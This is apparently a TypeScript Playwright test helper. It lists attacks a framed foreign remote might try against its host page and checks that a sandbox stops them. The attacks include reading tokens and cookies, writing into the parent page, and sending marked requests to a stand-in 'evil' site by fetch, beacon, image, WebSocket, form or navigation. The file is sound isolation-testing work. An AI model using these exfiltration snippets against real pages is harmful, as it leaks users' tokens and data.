/**
 * Attacks of a foreign remote on the page around its frame and on the network. Each one runs in the frame of the remote,
 * where it must reach nothing, and in a frame without protection, where it must reach its goal.
 */

import type { Dialog, Frame } from '@playwright/test';

import type { OtherSite } from './other-site.ts';

/** The knowledge of an attack: the other site of the attacker, a mark for its requests, and the script of another remote. */
interface AttackTools {
  readonly evil: string;
  readonly mark: string;
  readonly otherScript: string;
}

export interface Attack {
  readonly name: string;
  /** Runs in the frame. Without `detectedBy`, it returns true when it reached its goal. */
  readonly run: (tools: AttackTools) => unknown;
  /** `request`: the attack reaches its goal when the other site gets its request. `dialog`: when a dialog opens. */
  readonly detectedBy?: 'request' | 'dialog';
  /** The frame or the page can be gone after the attack, or another page can be open. */
  readonly leavesPage?: true;
  /** The browser shows its error page in the frame of the remote, so the shell shows the page of a failed remote. */
  readonly endsFrame?: true;
  /** The attack may succeed when the remote has its own host, because that origin has only data of the remote. */
  readonly isOwnData?: true;
}

export const ATTACKS: readonly Attack[] = [
  { name: 'reads the token in localStorage', run: () => localStorage.getItem('token') === 'secret' },
  { name: 'reads the token in localStorage of the page', run: () => parent.localStorage.getItem('token') === 'secret' },
  { name: 'reads the cookies', run: () => document.cookie.includes('seen=1') },
  { name: 'reads the cookies of the page', run: () => parent.document.cookie.includes('seen=1') },
  { name: 'reads the text of the page', run: () => parent.document.body.textContent.length > 0 },
  { name: 'writes into the page', run: () => parent.document.body.append('attack') === undefined },
  { name: 'reads the address of the page', run: () => parent.location.href.length > 0 },
  { name: 'reads globals of the page', run: () => 'fetch' in parent },
  { name: 'calls a function of the page', run: () => parent.document.createElement('p').tagName === 'P' },
  { name: 'finds its own element in the page', run: () => frameElement !== null },
  {
    name: 'registers a service worker',
    run: () => navigator.serviceWorker.register('/worker.js').then(() => true),
  },
  {
    name: 'starts a worker',
    run: () =>
      new Promise((resolve, reject) => {
        const code = 'postMessage(1)';
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        worker.onmessage = () => resolve(true);
        worker.onerror = reject;
      }),
  },
  {
    name: 'reads the database of the origin',
    run: () => caches.keys().then(() => indexedDB.open('x').readyState === 'pending'),
    isOwnData: true,
  },
  {
    name: 'loads the script of another remote',
    run: ({ otherScript }) =>
      new Promise((resolve, reject) => {
        const script = Object.assign(document.createElement('script'), { src: otherScript });
        script.onload = () => resolve(true);
        script.onerror = reject;
        document.body.append(script);
      }),
  },
  { name: 'imports the script of another remote', run: ({ otherScript }) => import(otherScript).then(() => true) },
  { name: 'calls the API directly', run: () => fetch('/api/v1').then(() => true) },
  { name: 'opens a dialog', run: () => alert('attack'), detectedBy: 'dialog' },
  { name: 'fetches from another site', run: ({ evil, mark }) => fetch(`${evil}/${mark}`), detectedBy: 'request' },
  {
    name: 'sends a beacon to another site',
    run: ({ evil, mark }) => navigator.sendBeacon(`${evil}/${mark}`),
    detectedBy: 'request',
  },
  {
    name: 'loads an image of another site',
    run: ({ evil, mark }) => void (new Image().src = `${evil}/${mark}`),
    detectedBy: 'request',
  },
  {
    name: 'opens a web socket to another site',
    run: ({ evil, mark }) => new WebSocket(`${evil.replace('http', 'ws')}/${mark}`).readyState,
    detectedBy: 'request',
  },
  {
    name: 'shows another site in a frame',
    run: ({ evil, mark }) => {
      const frame = Object.assign(document.createElement('iframe'), { src: `${evil}/${mark}` });
      document.body.append(frame);
    },
    detectedBy: 'request',
  },
  {
    name: 'loads a style sheet of another site',
    run: ({ evil, mark }) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/${mark}` });
      document.head.append(link);
    },
    detectedBy: 'request',
  },
  {
    name: 'opens a window',
    run: ({ evil, mark }) => open(`${evil}/${mark}`) !== null,
    detectedBy: 'request',
    leavesPage: true,
  },
  {
    name: 'navigates the page to another site',
    run: ({ evil, mark }) => void (top!.location.href = `${evil}/${mark}`),
    detectedBy: 'request',
    leavesPage: true,
  },
  {
    name: 'navigates the page by a link',
    run: ({ evil, mark }) => {
      const link = Object.assign(document.createElement('a'), { href: `${evil}/${mark}`, target: '_top' });
      document.body.append(link);
      link.click();
    },
    detectedBy: 'request',
    leavesPage: true,
  },
  {
    name: 'sends a form to another site',
    run: ({ evil, mark }) => {
      const form = Object.assign(document.createElement('form'), { action: `${evil}/${mark}`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    detectedBy: 'request',
    leavesPage: true,
    endsFrame: true,
  },
  {
    name: 'navigates its frame to another site',
    run: ({ evil, mark }) => void (location.href = `${evil}/${mark}`),
    detectedBy: 'request',
    leavesPage: true,
    endsFrame: true,
  },
];

/** Runs an attack in a frame, and tells whether it reached its goal. */
export async function runAttack(
  frame: Frame,
  { run, detectedBy }: Attack,
  { evil, mark, otherScript }: { readonly evil: OtherSite; readonly mark: string; readonly otherScript: string },
): Promise<boolean> {
  let hasDialog = false;
  const recordDialog = (dialog: Dialog) => {
    hasDialog = true;
    void dialog.dismiss();
  };
  const page = frame.page();
  page.on('dialog', recordDialog);
  const result = await frame
    .evaluate(run, { evil: evil.url, mark, otherScript })
    .catch((error: unknown) => String(error));
  page.off('dialog', recordDialog);
  if (detectedBy === 'dialog') return hasDialog;
  return detectedBy === 'request' ? evil.hits.has(`/${mark}`) : result === true;
}
